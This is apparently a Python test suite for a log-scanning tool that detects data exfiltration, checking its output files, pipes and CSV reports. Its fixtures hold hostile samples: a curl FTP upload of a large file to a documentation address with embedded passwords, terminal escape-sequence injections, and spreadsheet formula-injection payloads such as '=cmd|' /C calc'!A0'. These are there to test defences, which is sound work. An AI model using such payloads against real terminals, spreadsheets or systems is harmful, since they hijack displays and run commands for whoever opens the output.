"""Where output goes: whole or not at all, quiet on a closed pipe, safe for terminals and sheets."""
import csv
import datetime
import io
import os
import subprocess

import harness
from harness import SAMPLES, check, has, lacks, run, same, test, write
from input_test import finding_log, quiet_log
from options_test import calls
from story import Story, scp_job


def files():
    return sorted(p.name for p in harness.WORK.iterdir())


@test("-o: the same bytes as stdout, nothing on stdout, nothing left beside")
def _():
    write("audit.log", finding_log())
    result = run("scan", "-o", "out.txt", "audit.log", code=1)
    check(result.out == "" and result.err == "", "silent", result)
    same((harness.WORK / "out.txt").read_text(), run("scan", "audit.log").out, "file")
    check(files() == ["audit.log", "out.txt"], "left beside", files())
    same(run("scan", "-o", "-", "audit.log").out, run("scan", "audit.log").out, "-")


@test("-o: strftime patterns, UTC")
def _():
    before = datetime.datetime.now(datetime.timezone.utc)
    run("scan", "-o", "day-%Y-%m-%d.txt", write("audit.log", finding_log()), code=1,
        env={"TZ": "Pacific/Kiritimati"})
    after = datetime.datetime.now(datetime.timezone.utc)
    check({f"day-{t:%Y-%m-%d}.txt" for t in (before, after)} & set(files()), "name", files())


@test("-o: with --local the day of this machine's zone, not UTC's")
def _():
    write("audit.log", finding_log())
    for zone, hours in (("Pacific/Kiritimati", 14), ("Etc/GMT+12", -12)):  # never one day
        before = datetime.datetime.now(datetime.timezone.utc)
        run("scan", "--local", "-o", "day-%F.txt", "audit.log", code=1, env={"TZ": zone})
        after = datetime.datetime.now(datetime.timezone.utc)
        names = {f"day-{t + datetime.timedelta(hours=hours):%Y-%m-%d}.txt" for t in (before, after)}
        check(names & set(files()), "name", zone, files())
    check(len(files()) == 3, "two days", files())
    for zone, is_known in (("Bogus/Zone", False), ("CET-1CEST", True), (":Etc/UTC", True)):
        result = run("scan", "--local", "audit.log", code=1, env={"TZ": zone})
        check(("TZ names no zone" in result.err) != is_known, zone, result)


@test("-o: a patterned name that is taken is never written over, a plain one is replaced")
def _():
    write("audit.log", finding_log())
    write("quiet.log", quiet_log())
    run("scan", "-o", "d/%Y.day/r.%Y.csv", "audit.log", code=2)  # no such folder
    year = f"{datetime.datetime.now(datetime.timezone.utc):%Y}"
    os.makedirs(harness.WORK / f"d/{year}.day")
    folder = harness.WORK / f"d/{year}.day"
    wanted = {f"r.{year}.csv": run("scan", "audit.log").out}
    run("scan", "-o", "d/%Y.day/r.%Y.csv", "audit.log", code=1)
    for number in range(1, 12):
        run("scan", "-o", "d/%Y.day/r.%Y.csv", "quiet.log", code=0)
        wanted[f"r.{year}.{number}.csv"] = run("scan", "quiet.log").out
    check({p.name: p.read_text() for p in folder.iterdir()} == wanted, "files", *folder.iterdir())
    for wished, then in ((f"x%Y", f"x{year}.1"), ("%Y.a.b.gz", f"{year}.a.b.1.gz"),
                         ("d/%Y.day/x%Y", f"d/{year}.day/x{year}.1")):
        for _ in range(2):
            run("scan", "-o", wished, "quiet.log", code=0)
        check((harness.WORK / then).exists(), then, files())
    for _ in range(2):
        run("scan", "-o", "plain.csv", "quiet.log", code=0)
    check(not (harness.WORK / "plain.1.csv").exists(), "replaced", files())


@test("-o: runs at once leave one whole file each under a patterned name")
def _():
    write("audit.log", finding_log())
    runs = [subprocess.Popen([harness.BINARY, "scan", "-o", "%Y.txt", "audit.log"],
                             cwd=harness.WORK) for _ in range(8)]
    check([r.wait() for r in runs] == [1] * 8, "exit")
    texts = {p.read_text() for p in harness.WORK.glob("*.txt")}
    check(len(files()) == 9 and len(texts) == 1, "eight", files())


@test("-o: not at all after a mistake in the rules, the old file stays")
def _():
    write("out.txt", "old")
    write("own.conf", "[role default]\nlimit = x\n")
    run("scan", "--rules", "own.conf", "-o", "out.txt", write("audit.log", finding_log()), code=2)
    check((harness.WORK / "out.txt").read_text() == "old", "old")
    check(files() == ["audit.log", "out.txt", "own.conf"], "left beside", files())


@test("-o: cannot be written: exit 2 before a log is read")
def _():
    result = run("scan", "-o", "no/such/folder.txt", "gone.log", code=2)
    has(result.err, "no/such/folder.txt: cannot be written (No such file or directory)")
    lacks(result.err, "gone.log")
    has(run("scan", "-o", harness.WORK, code=2).err, "is a folder")


@test("-o: never over one of the logs, by whatever name")
def _():
    log = write("audit.log", finding_log())
    os.symlink("audit.log", harness.WORK / "link")
    for name in ("audit.log", "./audit.log", "link"):
        for command in (["scan"], ["transfers"], ["events"], ["coverage"], ["explain", "a"]):
            has(run(*command, "-o", name, "audit.log", code=2).err, "is one of the logs")
    same(log.read_text(), finding_log(), "the log")


@test("-o: a pipe or device is written to, not replaced, a link is followed")
def _():
    write("audit.log", quiet_log())
    os.mkfifo(harness.WORK / "fifo")
    with subprocess.Popen(["cat", harness.WORK / "fifo"], stdout=subprocess.PIPE) as reader:
        run("scan", "-o", "fifo", "audit.log", code=0)
        same(reader.stdout.read().decode(), run("scan", "audit.log").out, "fifo")
    write("real.txt", "old")
    os.symlink("real.txt", harness.WORK / "link.txt")
    run("scan", "-o", "link.txt", "audit.log", code=0)
    check((harness.WORK / "link.txt").is_symlink(), "still a link")
    has((harness.WORK / "real.txt").read_text(), "No findings")


def coverage_rows(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


@test("coverage --format csv: a row a host, also of what was read and of bounds")
def _():
    write("a.log", finding_log())
    write("b/audit.log", hostile_log())
    out = run("coverage", "--format", "csv", "--host", "=1+1", "a.log", code=0).out
    check(out.startswith("host,node,verdict,reasons,first,") and out.count("\r\n") == 2, "rows", out)
    row = coverage_rows(out)[0]
    check((row["host"], row["verdict"], row["execs"], row["bytes"], row["complete"], row["bounds"]) ==
          ("'=1+1", "adequate", "yes", "yes", "yes", ""), "row", row)
    row = coverage_rows(run("coverage", "--format", "csv", "a.log", "gone.log", code=3).out)[0]
    check(row["complete"] == "no", "not all was read", row)
    out = run("coverage", "--format", "csv", "--max-processes", "64", SAMPLES / "etl-01",
              write("many.log", calls(150, 1000)), code=4).out
    check([row["bounds"] for row in coverage_rows(out)] == ["processes 86"] * 2, "bounds", out)
    row = coverage_rows(run("coverage", "--format", "csv", "gone.log", code=3).out)[0]
    check((row["verdict"], row["complete"]) == ("blind", "no"), "nothing was read", row)


@test("--coverage-out: beside every report what `coverage --format csv` writes")
def _():
    write("audit.log", finding_log())
    for place in ("audit.log", SAMPLES):
        wanted = run("coverage", "--format", "csv", place).raw
        write("facts.jsonl", run("transfers", place).raw)
        for command in (["scan"], ["scan", "--format", "csv"], ["judge"], ["transfers"],
                        ["transfers", "--format", "csv"]):
            source = "facts.jsonl" if command == ["judge"] else place
            plain = run(*command, source)
            result = run(*command, "--coverage-out", "c.csv", source, code=plain.code)
            same(result.raw, plain.raw, "the report")
            same((harness.WORK / "c.csv").read_bytes(), wanted, " ".join(command))
    check(files() == ["audit.log", "c.csv", "facts.jsonl"], "left beside", files())


@test("--coverage-out: dated as -o is, in another folder, and whole or not at all with the report")
def _():
    write("audit.log", finding_log())
    os.makedirs(harness.WORK / "x")
    os.makedirs(harness.WORK / "y")
    year = f"{datetime.datetime.now(datetime.timezone.utc):%Y}"
    for _ in range(2):
        run("scan", "-o", "x/%Y.csv", "--coverage-out", "y/%Y.csv", "audit.log", code=1)
    names = [f"{year}.1.csv", f"{year}.csv"]
    for folder in ("x", "y"):
        check(sorted(os.listdir(harness.WORK / folder)) == names, folder)
    for report, coverage in (("/dev/full", "y/c.csv"), ("x/r.csv", "/dev/full"),
                             ("no/r.csv", "y/c.csv"), ("x/r.csv", "no/c.csv"),
                             ("x/r.csv", "audit.log"), ("x/r.csv", "x/../x/r.csv")):
        run("scan", "-o", report, "--coverage-out", coverage, "audit.log", code=2)
        for folder in ("x", "y"):
            check(sorted(os.listdir(harness.WORK / folder)) == names, "left", folder, report)
    same((harness.WORK / "audit.log").read_text(), finding_log(), "the log")
    has(run("scan", "--coverage-out", "-", "audit.log", code=2).err, "--coverage-out: write a FILE")


def append(*args, code, name="r.csv"):
    return run("scan", "--format", "csv", "--append-new", "-o", name, *args, code=code)


def report(name="r.csv"):
    return (harness.WORK / name).read_bytes()


@test("--append-new: rows that are not there yet are added, and the file stays one CSV")
def _():
    one, both = finding_log(), finding_log() + scp_job(Story(node="b"), address="203.0.113.11").text()
    write("quiet.log", quiet_log())
    write("one.log", one)
    write("both.log", both)
    append("quiet.log", code=0)  # not there: made, with the header alone
    check(report().count(b"\r\n") == 1, "header", report())
    append("one.log", code=1)
    same(report(), run("scan", "--format", "csv", "one.log").raw, "one")
    (harness.WORK / "r.csv").chmod(0o604)
    append("one.log", code=1)
    same(report(), run("scan", "--format", "csv", "one.log").raw, "not twice")
    check((harness.WORK / "r.csv").stat().st_mode & 0o777 == 0o604, "its mode")
    append("both.log", code=1)
    rows = coverage_rows(report().decode())
    check(len(rows) == 2 and sorted(row["address"] for row in rows) ==
          ["203.0.113.10", "203.0.113.11"], "two", report())
    before = report()
    append("both.log", code=1)
    same(report(), before, "none is new")
    check(files() == ["both.log", "one.log", "quiet.log", "r.csv"], "left beside", files())


@test("--append-new: a finding that grew has a row more, one told in other words has not")
def _():
    story = scp_job()
    write("a.log", story.text())
    story.wait(3600)
    write("b.log", scp_job(story, pid=800).text())
    append("a.log", code=1)
    append("b.log", code=1)
    rows = coverage_rows(report().decode())
    check(len(rows) == 2 and rows[0]["finding"] == rows[1]["finding"] and
          int(rows[0]["bytes_out"]) < int(rows[1]["bytes_out"]), "grown", report())
    write("w.csv", run("scan", "--format", "csv", "a.log").raw.replace(b"started by cron", b"by, cron"))
    before = report("w.csv")
    check(b"by, cron" in before, "other words", before)
    append("a.log", code=1, name="w.csv")
    same(report("w.csv"), before, "not again")


@test("--append-new: any end of line, a last line without one, an empty file and a pipe")
def _():
    write("audit.log", finding_log())
    whole = run("scan", "--format", "csv", "audit.log").raw
    header, row = whole.splitlines()
    for old in (b"", header, header + b"\n", whole.replace(b"\r", b""), whole[:-2]):
        write("r.csv", old)
        append("audit.log", code=1)
        same(report(), whole, repr(old[-9:]))
    append("audit.log", code=1, name="/dev/null")
    os.symlink("r.csv", harness.WORK / "link.csv")
    append("audit.log", code=1, name="link.csv")
    check((harness.WORK / "link.csv").is_symlink() and report() == whole, "a link")


@test("--append-new: a row that was cut short stays and is not taken for the whole one")
def _():
    write("audit.log", finding_log())
    whole = run("scan", "--format", "csv", "audit.log").raw
    for cut in (3, 40, len(whole.splitlines()[1]) // 2):
        torn = whole[:whole.index(b"\n") + 1 + cut]
        write("r.csv", torn)
        result = append("audit.log", code=1)
        has(result.err, "r.csv: 1 of its rows has not as many cells as its header")
        same(report(), torn + b"\r\n" + whole[whole.index(b"\n") + 1:], f"cut at {cut}")


@test("--append-new: what is no such CSV is refused before a log is read, and stays")
def _():
    write("audit.log", finding_log())
    facts = run("transfers", "--format", "csv", "audit.log").raw
    header = run("scan", "--format", "csv", "audit.log").raw.split(b"\r\n")[0]
    for old in (facts, b"x\n", b"\n" + header, header + b",more\r\n", header[:-1], b"\0" * 9999):
        write("r.csv", old)
        result = append("gone.log", code=2)
        has(result.err, "r.csv: begins with another header", "--append-new")
        lacks(result.err, "gone.log")
        same(report(), old, "as it was")
    with open(harness.WORK / "r.csv", "wb") as large:
        large.write(header + b"\r\n")
        large.truncate((64 << 20) + 1)
    has(append("audit.log", code=2).err, "larger than 64 MiB")
    check(files() == ["audit.log", "r.csv"], "left beside", files())
    for wrong in (["-o", "r.csv"], ["--format", "csv"], ["--format", "csv", "-o", "-"],
                  ["--format", "jsonl", "-o", "r.csv"]):
        has(run("scan", "--append-new", *wrong, "audit.log", code=2).err,
            "--append-new: adds rows to a file; write --format csv and -o FILE")


@test("--append-new: of transfers and coverage too, and of --coverage-out beside a report")
def _():
    write("a.log", finding_log())
    write("b.log", quiet_log())
    for command, kind in (("transfers", 2), ("coverage", 2)):
        for name in ("a.log", "b.log", "a.log"):
            run(command, "--host", name, "--format", "csv", "--append-new", "-o", command, name)
        check(len(coverage_rows(report(command).decode())) == kind, command, report(command))
    for name in ("a.log", "b.log", "a.log"):
        append("--coverage-out", "c.csv", "--host", name, name, code=None)
    check([r["host"] for r in coverage_rows(report("c.csv").decode())] == ["a.log", "b.log"],
          "coverage", report("c.csv"))
    same(report("c.csv"), report("coverage"), "the same")
    check(len(coverage_rows(report().decode())) == 1, "report", report())


@test("--append-new: runs at once lose no row")
def _():
    names = [f"h{number}" for number in range(8)]
    write("r.csv", run("scan", "--format", "csv", write("quiet.log", quiet_log())).raw)
    log = write("audit.log", finding_log())
    command = [harness.BINARY, "scan", "--format", "csv", "--append-new", "-o", "r.csv"]
    runs = [subprocess.Popen([*command, "--host", name, log], cwd=harness.WORK,
                             stderr=subprocess.PIPE) for name in names]
    errors = [p.communicate()[1].decode() for p in runs]
    check([p.returncode for p in runs] == [1] * 8, "exit", *errors)
    check(sorted(r["host"] for r in coverage_rows(report().decode())) == names, "rows", report())
    os.remove(harness.WORK / "r.csv")  # nobody has made it yet: each keeps its rows
    runs = [subprocess.Popen([*command, "-q", "--host", name, log], cwd=harness.WORK)
            for name in names]
    check([p.wait() for p in runs] == [1] * 8, "exit")
    rows = [r["host"] for p in harness.WORK.glob("*.csv") for r in coverage_rows(report(p.name).decode())]
    check(sorted(rows) == names, "rows", files())


@test("--summary: five lines on stdout, the report where -o says, or nowhere")
def _():
    plain = run("scan", SAMPLES, code=1).out
    result = run("scan", "--summary", SAMPLES, code=1)
    check(len(result.out.splitlines()) == 5 and result.err == "", "five lines", result)
    has(result.out, "Findings: 3 (1 high, 1 medium, 1 low); 6 transfers, 0 approved, 1 unmeasured",
        "web-03: 151.5 MiB (158,849,637 bytes) to 203.0.113.77:22 by scp",
        "3 adequate, 0 partial, 1 blind: app-02 blind", "Report:   not written (-o FILE); exit code 1")
    for form in ("table", "csv", "jsonl"):
        same(run("scan", "--summary", "--format", form, SAMPLES, code=1).out, result.out, form)
    check(files() == [], "no file", files())
    year = f"{datetime.datetime.now(datetime.timezone.utc):%Y}"
    for name in (f"{year}.txt", f"{year}.1.txt"):
        has(run("scan", "--summary", "-o", "%Y.txt", SAMPLES, code=1).out, f"{name}; exit code 1")
        same((harness.WORK / name).read_text(), plain, "the report")
    write("facts.jsonl", run("transfers", SAMPLES).raw)
    out = run("judge", "--summary", "facts.jsonl", code=1).out
    same(out.splitlines()[:3], result.out.splitlines()[:3], "judge")
    out = run("scan", "--summary", "gone.log", code=3).out
    check(len(out.splitlines()) == 4, "no biggest", out)
    has(out, "Findings: none", "could not have shown one", "not whole: gone.log missing", "exit code 3")


@test("--summary: one line each, whatever the log holds")
def _():
    out = run("scan", "--summary", write("audit.log", hostile_log()), code=1).out
    check(len(out.splitlines()) == 5, "five lines", out)
    lacks(out, "\x1b", "\u202e", "hunter2", "Sw0rdfish")


@test("a full disk: exit 2 and a reason")
def _():
    write("audit.log", finding_log())
    has(run("scan", "-o", "/dev/full", "audit.log", code=2).err, "No space left on device")
    done = subprocess.run(f"{harness.BINARY} events audit.log > /dev/full", shell=True,
                          capture_output=True, cwd=harness.WORK)
    check(done.returncode == 2, "exit 2", done)
    has(done.stderr.decode(), "standard output: cannot be written (No space left on device)")


@test("a closed pipe makes no noise, and no finding of it 0")
def _():
    write("audit.log", finding_log() * 200)
    for command in ("events", "scan", "transfers"):
        done = subprocess.run(
            ["bash", "-c", f'"$0" {command} audit.log | head -1 > /dev/null; '
             'echo "${PIPESTATUS[0]}"', harness.BINARY], capture_output=True, cwd=harness.WORK)
        check(done.stderr.replace(b"auexfil: ", b"") == b"" or b"pipe" not in done.stderr.lower(),
              "noise", done)
        # All was written before the pipe closed, or 128 + SIGPIPE.
        check(done.stdout.strip() in ((b"1", b"141") if command == "scan" else (b"0", b"141")),
              "exit", done)


@test("a closed stderr does no harm")
def _():
    done = subprocess.run(f"{harness.BINARY} scan gone 2>&-", shell=True, capture_output=True,
                          cwd=harness.WORK)
    check(done.returncode == 3, "exit 3", done)
    done = subprocess.run(f"{harness.BINARY} scan --no-such 2>&-", shell=True, capture_output=True,
                          cwd=harness.WORK)
    check(done.returncode == 2, "exit 2", done)


def hostile_log():
    """argv, comm and cwd that want to do something to whoever reads the report."""
    story = Story()
    argv = ["curl", "-T", "a\x1b]0;owned\x07\x1b[2J\r\nHIGH fake\u202e\u009b31m", "-u",
            "me:Sw0rdfish", "ftp://bob:hunter2@203.0.113.9/u"]
    shell = story.cron_job("curl -u me:Sw0rdfish ftp://bob:hunter2@203.0.113.9/u\x1b[31m")
    curl = shell.fork(702).exec("/usr/bin/curl", *argv, cwd="/tmp/\x1b[1m")
    curl.upload(5, "203.0.113.9", 21, 150_000_000)
    story.chatter()
    return story.text()


@test("terminal escapes of a log never reach the output, in no command and no format")
def _():
    write("audit.log", hostile_log())
    scan = run("scan", "audit.log", code=1)
    id = run("transfers", "audit.log").rows()[0]["id"]
    for command in (["scan"], ["scan", "-v"], ["scan", "--format", "csv"],
                    ["scan", "--format", "jsonl"], ["transfers"], ["transfers", "--format", "table"],
                    ["transfers", "--format", "csv"], ["events"], ["coverage"], ["explain", id]):
        result = run(*command, "audit.log")
        for bad in ("\x1b", "\x07", "\u202e", "\u009b"):
            lacks(result.out + result.err, bad)
        lacks(result.out, "\nHIGH fake")
    has(scan.out, "\\x1b")


@test("passwords of command lines are masked in every output, --no-mask shows them")
def _():
    write("audit.log", hostile_log())
    id = run("transfers", "audit.log").rows()[0]["id"]
    for command in (["scan", "-v"], ["scan", "--format", "csv"], ["scan", "--format", "jsonl"],
                    ["transfers"], ["transfers", "--format", "table"],
                    ["transfers", "--format", "csv"], ["explain", id]):
        result = run(*command, "audit.log")
        has(result.out, "****")
        lacks(result.out + result.err, "Sw0rdfish", "hunter2", "Sw0rdfish".encode().hex().upper(),
              "hunter2".encode().hex().upper())
        has(run(*command, "--no-mask", "audit.log").out, "hunter2")


@test("csv: header always, RFC 4180, cells that a spreadsheet would run are quoted")
def _():
    header = run("scan", "--format", "csv", write("audit.log", quiet_log()), code=0).raw
    check(header.count(b"\r\n") == 1 and header.endswith(b"technique,update\r\n"), "header", header)
    story = Story()
    shell = story.cron_job("=cmd|' /C calc'!A0")
    shell.fork(702).exec("/usr/bin/curl", "=HYPERLINK(\"x\"),\n", "-T", "f").upload(
        5, "203.0.113.9", 21, 150_000_000)
    out = run("scan", "--format", "csv", write("audit.log", story.text()), code=1).out
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    check([row["rule"] for row in rows] == ["bulk-unattended", "cleartext"], "one row a finding", out)
    check(all(row["address"] == "203.0.113.9" for row in rows), "its address", out)
    for row in rows:
        for cell in row.values():
            check(not cell or cell[0] not in "=+-@\t\r", "a formula", out)
